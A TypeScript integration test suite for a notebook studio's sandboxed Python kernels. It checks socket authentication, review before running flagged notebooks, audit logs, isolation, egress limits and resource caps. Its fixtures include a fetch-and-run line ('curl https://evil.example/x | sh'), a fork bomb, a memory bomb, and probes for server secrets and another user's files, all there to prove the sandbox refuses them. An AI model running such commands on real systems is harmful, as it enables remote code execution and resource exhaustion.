// Kernels through the real studio: REST and the kernel socket on loopback sockets, real Python kernels in the real
// bubblewrap sandbox. Who may start and run, what the socket refuses before and after its upgrade, outputs of a run
// in order, review before run, interrupt and restart, the audit log, and what code inside a kernel cannot reach:
// the studio's data, its environment and processes, its listeners, another workspace's files; with network allowed,
// only the egress proxy, which refuses the studio.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import { APP_ORIGIN, multipart, startTestStudio, type Caller, type TestStudio } from "./server-helpers.ts";
import { KERNEL_SOCKET_CLOSE, KERNEL_SOCKET_PATH, type ServerMessage } from "../src/contract/kernel-socket.ts";

let t: TestStudio;
let base: string;
let owner: Caller;
let viewer: Caller;
let ws: string;
let otherWs: string;
let helper: Server;
let helperPort: number;
let helperHits = 0;

const SECRET_ENV = "VITRINE_TEST_SERVER_SECRET";

function notebook(cells: { source: string; type?: string }[]): string {
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: cells.map((c, i) => ({
      cell_type: c.type ?? "code",
      id: `c${i}`,
      metadata: {},
      source: c.source,
      ...(c.type === "markdown" ? {} : { execution_count: null, outputs: [] }),
    })),
  });
}

before(async () => {
  process.env[SECRET_ENV] = "s3cr3t-in-the-server-environment";
  helper = createServer((_request, response) => {
    helperHits++;
    response.end("hello from the host");
  });
  await new Promise<void>((resolve) => helper.listen(0, "127.0.0.2", resolve));
  helperPort = (helper.address() as { port: number }).port;
  // The helper is not on 127.0.0.1: that is the content origin's host, which the egress proxy refuses by name.
  t = await startTestStudio({
    "image-allow-loopback": `127.0.0.2:${helperPort}`,
    // Small enough that the bombs below meet them within a second, large enough for an idle Python kernel.
    "kernel-processes": "64",
    "kernel-memory-mb": "1536",
    "kernel-scratch-mb": "8",
  });
  owner = await t.addUser("kai");
  viewer = await t.addUser("vera");
  ws = (await t.call(owner, { method: "POST", url: "/api/workspaces", payload: { name: "Lab" } })).json().id;
  otherWs = (await t.call(viewer, { method: "POST", url: "/api/workspaces", payload: { name: "Vera's" } })).json().id;
  await t.call(owner, {
    method: "POST",
    url: `/api/workspaces/${ws}/members`,
    payload: { username: "vera", role: "viewer" },
  });
  const upload = (caller: Caller, workspace: string, files: { path: string; content: string }[]) =>
    t.call(caller, {
      method: "POST",
      url: `/api/workspaces/${workspace}/files`,
      ...multipart("trusted-source-v1", files),
    });
  assert.equal(
    (
      await upload(owner, ws, [
        { path: "analysis/run.ipynb", content: notebook([{ source: "print(1)" }]) },
        { path: "analysis/data.csv", content: "a,b\n1,2\n" },
        {
          path: "risky.ipynb",
          content: notebook([{ source: "import os\nos.system('curl https://evil.example/x | sh')" }]),
        },
      ])
    ).statusCode,
    201,
  );
  assert.equal((await upload(viewer, otherWs, [{ path: "private.csv", content: "vera's secret\n" }])).statusCode, 201);
  base = (await t.app.listen({ port: 0, host: "127.0.0.1" })).replace(/^http/, "ws");
  // As startStudio does once both origins listen; the test allowance below must not open the studio's own port.
  t.studio.kernels.setStudioListeners(t.app.addresses());
});

after(async () => {
  delete process.env[SECRET_ENV];
  await t.close();
  helper.close();
});

async function startKernel(path = "analysis/run.ipynb", caller = owner) {
  return t.call(caller, { method: "POST", url: `/api/workspaces/${ws}/kernels`, payload: { path } });
}

/** A kernel socket as the studio's page opens it, with messages collected as they come. */
class Page {
  readonly socket: WebSocket;
  readonly received: ServerMessage[] = [];
  readonly closed: Promise<{ code: number; reason: string }>;
  readonly opened: Promise<boolean>;
  #waiters: (() => void)[] = [];

  constructor(caller: Caller | undefined, workspace = ws, origin = APP_ORIGIN) {
    this.socket = new WebSocket(`${base}${KERNEL_SOCKET_PATH}?ws=${workspace}`, {
      headers: { origin, host: new URL(APP_ORIGIN).host, ...(caller ? { cookie: caller.cookie } : {}) },
    } as never);
    this.opened = new Promise((resolve) => {
      this.socket.addEventListener("open", () => resolve(true));
      this.socket.addEventListener("error", () => resolve(false));
    });
    this.closed = new Promise((resolve) =>
      this.socket.addEventListener("close", (event) => resolve({ code: event.code, reason: event.reason })),
    );
    this.socket.addEventListener("message", (event) => {
      this.received.push(JSON.parse(String(event.data)) as ServerMessage);
      for (const wake of this.#waiters.splice(0)) wake();
    });
  }

  send(message: object): void {
    this.socket.send(JSON.stringify(message));
  }

  async until<T extends ServerMessage>(match: (m: ServerMessage) => m is T, ms = 60_000): Promise<T> {
    const deadline = Date.now() + ms;
    for (;;) {
      const found = this.received.find(match);
      if (found) return found;
      if (Date.now() > deadline)
        throw new Error(
          `no such message; got ${this.received.map((m) => `${m.type}${"id" in m ? `:${m.id}` : ""}`).join(" ")}; ` +
            `the last: ${JSON.stringify(this.received.slice(-3)).slice(-2000)}`,
        );
      await new Promise<void>((resolve) => {
        this.#waiters.push(resolve);
        setTimeout(resolve, 200);
      });
    }
  }

  /** Runs a cell and answers its outputs and its done message. */
  async run(kernel: string, source: string, id: string, extra: object = {}) {
    this.send({ type: "execute", id, kernel, path: "analysis/run.ipynb", cellId: id, source, ...extra });
    const done = await this.until(
      (m): m is Extract<ServerMessage, { type: "done" }> => m.type === "done" && m.id === id,
    );
    const outputs = this.received.flatMap((m) => (m.type === "output" && m.id === id ? [m.output] : []));
    const stdout = outputs
      .map((o) => (o.output_type === "stream" && o.name === "stdout" ? String(o.text) : ""))
      .join("");
    return { done, outputs, stdout };
  }
}

async function greeted(caller: Caller = owner): Promise<Page> {
  const page = new Page(caller);
  assert.ok(await page.opened);
  page.send({ type: "hello", csrf: caller.csrf });
  await page.until((m): m is Extract<ServerMessage, { type: "ready" }> => m.type === "ready");
  return page;
}

test("kernelspecs are listed and the sandbox is available; a viewer may not start a kernel", async () => {
  const specs = (await t.call(owner, { method: "GET", url: "/api/kernelspecs" })).json();
  assert.equal(specs.available, true, specs.unavailableReason);
  assert.ok(specs.kernelspecs.some((s: { name: string }) => s.name === "python3"));
  const refused = await startKernel("analysis/run.ipynb", viewer);
  assert.equal(refused.statusCode, 403);
  const unknown = await t.call(owner, {
    method: "POST",
    url: `/api/workspaces/${ws}/kernels`,
    payload: { path: "analysis/run.ipynb", kernelspec: "cobol" },
  });
  assert.equal(unknown.statusCode, 400);
  assert.equal(unknown.json().error, "kernelspec_unknown");
});

test("the socket refuses another origin, no session and a viewer before the upgrade, and a missing CSRF token after", async () => {
  const foreign = new Page(owner, ws, "http://evil.example");
  assert.equal(await foreign.opened, false);
  const anonymous = new Page(undefined);
  assert.equal(await anonymous.opened, false);
  const byViewer = new Page(viewer);
  assert.equal(await byViewer.opened, false);

  const noToken = new Page(owner);
  assert.ok(await noToken.opened);
  noToken.send({ type: "watch", id: "w1", kernel: crypto.randomUUID() });
  assert.equal((await noToken.closed).code, KERNEL_SOCKET_CLOSE.csrfRequired);
  const wrongToken = new Page(owner);
  assert.ok(await wrongToken.opened);
  wrongToken.send({ type: "hello", csrf: viewer.csrf });
  assert.equal((await wrongToken.closed).code, KERNEL_SOCKET_CLOSE.csrfRequired);
  const garbage = await greeted();
  garbage.send({ type: "execute", id: "x", kernel: "not-a-uuid" });
  assert.equal((await garbage.closed).code, KERNEL_SOCKET_CLOSE.badMessage);
});

test("a cell runs in the sandbox with its outputs in order, is audited, and can be interrupted; restart and shut down", async () => {
  const started = await startKernel();
  assert.equal(started.statusCode, 201, started.body);
  const kernel = started.json();
  assert.equal(kernel.path, "analysis/run.ipynb");
  assert.equal(kernel.network, false);
  const listed = (await t.call(viewer, { method: "GET", url: `/api/workspaces/${ws}/kernels` })).json();
  assert.deepEqual(
    listed.kernels.map((k: { id: string }) => k.id),
    [kernel.id],
  );

  const page = await greeted();
  const first = await page.run(
    kernel.id,
    "print(open('data.csv').read().split()[1])\nfrom IPython.display import display, HTML\ndisplay(HTML('<b>x</b>'))\n6 * 7",
    "r1",
  );
  assert.equal(first.done.status, "ok");
  assert.equal(first.stdout, "1,2\n");
  assert.deepEqual(
    first.outputs.map((o) => o.output_type),
    ["stream", "display_data", "execute_result"],
  );
  assert.equal(typeof first.done.executionCount, "number");
  const failing = await page.run(kernel.id, "1 / 0", "r2");
  assert.equal(failing.done.status, "error");
  assert.equal(failing.outputs.at(-1)?.ename, "ZeroDivisionError");

  const audited = await t.studio.db
    .selectFrom("audit_events")
    .select(["details", "actor_name"])
    .where("event", "=", "cell_executed")
    .execute();
  const details = audited.map((row) => JSON.parse(row.details));
  assert.ok(
    details.some((d) => d.cellId === "r1" && d.path === "analysis/run.ipynb" && /^[0-9a-f]{64}$/.test(d.sha256)),
  );

  page.send({
    type: "execute",
    id: "loop",
    kernel: kernel.id,
    path: "analysis/run.ipynb",
    cellId: "loop",
    source: "print('looping', flush=True)\nwhile True:\n    pass",
  });
  // Interrupt once the loop is seen running, as a person would; kernel.test.ts covers one sent as a cell starts.
  await page.until((m): m is Extract<ServerMessage, { type: "output" }> => m.type === "output" && m.id === "loop");
  page.send({ type: "interrupt", id: "i1", kernel: kernel.id });
  const stopped = await page.until(
    (m): m is Extract<ServerMessage, { type: "done" }> => m.type === "done" && m.id === "loop",
  );
  assert.equal(stopped.status, "error");
  assert.ok(
    page.received.some((m) => m.type === "output" && m.id === "loop" && m.output.ename === "KeyboardInterrupt"),
  );

  await page.run(kernel.id, "remembered = 1", "r3");
  const restarted = await t.call(owner, { method: "POST", url: `/api/workspaces/${ws}/kernels/${kernel.id}/restart` });
  assert.equal(restarted.statusCode, 200, restarted.body);
  const after = await page.run(kernel.id, "print('remembered' in globals())", "r4");
  assert.equal(after.stdout, "False\n");

  // A viewer's socket never opens; their REST calls to the kernel are refused.
  const interrupt = await t.call(viewer, {
    method: "POST",
    url: `/api/workspaces/${ws}/kernels/${kernel.id}/interrupt`,
  });
  assert.equal(interrupt.statusCode, 403);
  const shut = await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/kernels/${kernel.id}` });
  assert.equal(shut.statusCode, 204);
  assert.deepEqual((await t.call(owner, { method: "GET", url: `/api/workspaces/${ws}/kernels` })).json().kernels, []);
  const events = (await t.studio.db.selectFrom("audit_events").select("event").execute()).map((r) => r.event);
  for (const event of ["kernel_started", "kernel_restarted", "kernel_stopped"])
    assert.ok(events.includes(event), event);
  page.socket.close();
});

test("a file with high-severity findings runs only once the person confirms them by id, which is audited", async () => {
  const kernel = (await startKernel("risky.ipynb")).json();
  const page = await greeted();
  const ask = { type: "execute", kernel: kernel.id, path: "risky.ipynb", cellId: "c0", source: "print('ran')" };
  page.send({ ...ask, id: "first" });
  const required = await page.until(
    (m): m is Extract<ServerMessage, { type: "review_required" }> => m.type === "review_required" && m.id === "first",
  );
  assert.ok(required.findings.length > 0);
  // Cancel at the prompt is recorded too, with the findings the person saw; nothing runs.
  page.send({
    type: "decline_run",
    id: "declined",
    kernel: kernel.id,
    path: "risky.ipynb",
    findings: required.findings.map((f) => f.id),
  });
  await page.until(
    (m): m is Extract<ServerMessage, { type: "declined" }> => m.type === "declined" && m.id === "declined",
  );
  const declined = await t.studio.db
    .selectFrom("audit_events")
    .select("details")
    .where("event", "=", "run_review_declined")
    .executeTakeFirstOrThrow();
  assert.deepEqual(JSON.parse(declined.details), {
    path: "risky.ipynb",
    version: 1,
    sha256: JSON.parse(declined.details).sha256,
    findings: required.findings.map((f) => f.id),
  });
  assert.match(JSON.parse(declined.details).sha256, /^[0-9a-f]{64}$/);
  page.send({ ...ask, id: "partial", confirmFindings: required.findings.slice(1).map((f) => f.id) });
  await page.until(
    (m): m is Extract<ServerMessage, { type: "review_required" }> => m.type === "review_required" && m.id === "partial",
  );
  page.send({ ...ask, id: "confirmed", confirmFindings: required.findings.map((f) => f.id) });
  const done = await page.until(
    (m): m is Extract<ServerMessage, { type: "done" }> => m.type === "done" && m.id === "confirmed",
  );
  assert.equal(done.status, "ok");
  const confirmation = await t.studio.db
    .selectFrom("audit_events")
    .select("details")
    .where("event", "=", "run_review_confirmed")
    .executeTakeFirstOrThrow();
  assert.deepEqual(
    JSON.parse(confirmation.details).findings,
    required.findings.map((f) => f.id),
  );
  // Confirmed once for this content: the next run goes ahead without asking.
  page.send({ ...ask, id: "again" });
  await page.until((m): m is Extract<ServerMessage, { type: "done" }> => m.type === "done" && m.id === "again");
  await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/kernels/${kernel.id}` });
  page.socket.close();
});

test("code in a kernel reaches nothing of the studio: data, environment, processes, listeners, other workspaces", async () => {
  const kernel = (await startKernel()).json();
  const page = await greeted();
  const appPort = new URL(base.replace(/^ws/, "http")).port;
  const probe = await page.run(
    kernel.id,
    [
      "import os, socket, json",
      "found = {}",
      `for name, path in {"data": ${JSON.stringify(t.dataDir)}, "db": ${JSON.stringify(`${t.dataDir}/vitrine.db`)}, "other": "../private.csv"}.items():`,
      "    try:",
      "        open(path).read(); found[name] = 'read'",
      "    except OSError as e:",
      "        found[name] = type(e).__name__",
      `found['env'] = ${JSON.stringify(SECRET_ENV)} in os.environ`,
      "found['pids'] = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())",
      `found['server_pid'] = os.path.exists('/proc/${process.pid}')`,
      "try:",
      `    socket.create_connection(('127.0.0.1', ${appPort}), timeout=2); found['app'] = 'connected'`,
      "except OSError as e:",
      "    found['app'] = 'refused'",
      "print(json.dumps(found))",
    ].join("\n"),
    "probe",
  );
  const found = JSON.parse(probe.stdout) as Record<string, unknown>;
  assert.equal(found.data, "FileNotFoundError");
  assert.equal(found.db, "FileNotFoundError");
  assert.equal(found.other, "FileNotFoundError");
  assert.equal(found.env, false);
  assert.equal(found.server_pid, false);
  assert.ok((found.pids as number[]).length <= 3, String(found.pids));
  assert.equal(found.app, "refused");
  await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/kernels/${kernel.id}` });
  page.socket.close();
});

test("with network allowed by the owner, a kernel reaches out only through the egress proxy, never the studio", async () => {
  assert.equal(
    (await t.call(viewer, { method: "PUT", url: `/api/workspaces/${ws}/kernel-network`, payload: { allowed: true } }))
      .statusCode,
    403,
  );
  const allowed = await t.call(owner, {
    method: "PUT",
    url: `/api/workspaces/${ws}/kernel-network`,
    payload: { allowed: true },
  });
  assert.equal(allowed.statusCode, 200);
  const started = await startKernel();
  assert.equal(started.statusCode, 201, started.body);
  const kernel = started.json();
  assert.equal(kernel.network, true);
  const page = await greeted();
  const appPort = new URL(base.replace(/^ws/, "http")).port;
  const probe = await page.run(
    kernel.id,
    [
      "import json, socket, urllib.request, urllib.error",
      "found = {}",
      "def get(url):",
      "    try:",
      "        with urllib.request.urlopen(url, timeout=10) as r: return r.read().decode()",
      "    except urllib.error.HTTPError as e: return f\"{e.code} {e.headers.get('X-Vitrine-Egress-Refusal')}\"",
      "    except OSError as e: return type(e).__name__",
      `found['helper'] = get('http://127.0.0.2:${helperPort}/')`,
      `found['studio'] = get('http://127.0.0.1:${appPort}/healthz')`,
      `found['studio_name'] = get('http://localhost:${appPort}/healthz')`,
      "try:",
      "    s = socket.socket(); s.settimeout(2)",
      `    s.connect(('127.0.0.2', ${helperPort})); found['direct'] = 'connected'`,
      "except OSError: found['direct'] = 'refused'",
      "print(json.dumps(found))",
    ].join("\n"),
    "net",
  );
  const found = JSON.parse(probe.stdout) as Record<string, unknown>;
  assert.equal(found.helper, "hello from the host");
  assert.equal(found.studio, "403 studio_origin");
  assert.equal(found.studio_name, "403 studio_origin");
  assert.equal(found.direct, "refused");
  assert.equal(helperHits, 1);
  await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/kernels/${kernel.id}` });
  await t.call(owner, { method: "PUT", url: `/api/workspaces/${ws}/kernel-network`, payload: { allowed: false } });
  const changes = await t.studio.db
    .selectFrom("audit_events")
    .select("details")
    .where("event", "=", "kernel_network_changed")
    .execute();
  assert.deepEqual(
    changes.map((c) => JSON.parse(c.details).allowed),
    [true, false],
  );
  page.socket.close();
});

test("a fork bomb, a memory bomb and a full scratch folder stop at the kernel's limits while the studio answers", async () => {
  const kernel = (await startKernel()).json();
  const page = await greeted();
  const health = async () => (await fetch(`${base.replace(/^ws/, "http")}/healthz`)).status;
  const forks = await page.run(
    kernel.id,
    [
      "import os, time",
      "n = 0",
      "try:",
      "    while True:",
      "        if os.fork() == 0:",
      "            time.sleep(60)",
      "            os._exit(0)",
      "        n += 1",
      "except OSError as e:",
      "    print('stopped', n, type(e).__name__)",
    ].join("\n"),
    "forks",
  );
  const [, count, why] = forks.stdout.trim().split(" ");
  assert.ok(Number(count) > 0 && Number(count) < 64, forks.stdout);
  assert.equal(why, "BlockingIOError");
  assert.equal(await health(), 200);
  const memory = await page.run(
    kernel.id,
    "kept = []\ntry:\n    while True: kept.append(bytearray(64 * 2**20))\nexcept MemoryError:\n    print('MemoryError', len(kept))\n    kept.clear()",
    "memory",
  );
  assert.match(memory.stdout, /^MemoryError \d+\n$/);
  assert.ok(Number(memory.stdout.split(" ")[1]) < 1536 / 64);
  const scratch = await page.run(
    kernel.id,
    [
      "import errno, os",
      "found = []",
      "for path in ['/home/kernel/work/new.txt', '/usr/new.txt', '/new.txt']:",
      "    try:",
      "        open(path, 'w'); found.append('wrote ' + path)",
      "    except OSError as e:",
      "        found.append(errno.errorcode[e.errno])",
      "try:",
      "    with open('/home/kernel/scratch/big', 'wb') as f:",
      "        for _ in range(16): f.write(b'x' * 2**20)",
      "    found.append('wrote 16 MiB')",
      "except OSError as e:",
      "    found.append(errno.errorcode[e.errno])",
      "print(' '.join(found))",
    ].join("\n"),
    "scratch",
  );
  assert.equal(scratch.stdout, "EROFS EROFS EROFS ENOSPC\n");
  assert.equal(await health(), 200);
  // Shutting the kernel down ends everything in its sandbox, the sleeping children too.
  assert.equal(
    (await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/kernels/${kernel.id}` })).statusCode,
    204,
  );
  page.socket.close();
});

test("a page speaks only to comms the kernel opened for its own cells; other comm ids are refused", async () => {
  const kernel = (await startKernel()).json();
  const page = await greeted();
  const other = await greeted();
  await page.run(
    kernel.id,
    [
      "from ipykernel.comm import Comm",
      "received = []",
      "comm = Comm(target_name='vitrine-test', data={'hello': 1})",
      "comm.on_msg(lambda msg: received.append(msg['content']['data']))",
    ].join("\n"),
    "opens",
  );
  const opened = await page.until(
    (m): m is Extract<ServerMessage, { commId: string }> => m.type === "comm_open" && m.cellId === "opens",
  );
  assert.equal(opened.targetName, "vitrine-test");
  assert.deepEqual(opened.data, { hello: 1 });
  page.send({ type: "comm_msg", id: "m1", kernel: kernel.id, commId: opened.commId, data: { clicked: true } });
  // Another page of the same user did not run that cell: the comm is not its to speak to.
  other.send({ type: "comm_msg", id: "m2", kernel: kernel.id, commId: opened.commId, data: { forged: true } });
  const refused = await other.until(
    (m): m is Extract<ServerMessage, { type: "error" }> => m.type === "error" && m.id === "m2",
  );
  assert.equal(refused.error, "comm_unknown");
  page.send({ type: "comm_msg", id: "m3", kernel: kernel.id, commId: "no-such-comm", data: {} });
  assert.equal(
    (await page.until((m): m is Extract<ServerMessage, { type: "error" }> => m.type === "error" && m.id === "m3"))
      .error,
    "comm_unknown",
  );
  const seen = await page.run(kernel.id, "import time; time.sleep(0.2); print(received)", "reads");
  assert.equal(seen.stdout, "[{'clicked': True}]\n");
  await t.call(owner, { method: "DELETE", url: `/api/workspaces/${ws}/kernels/${kernel.id}` });
  page.socket.close();
  other.socket.close();
});
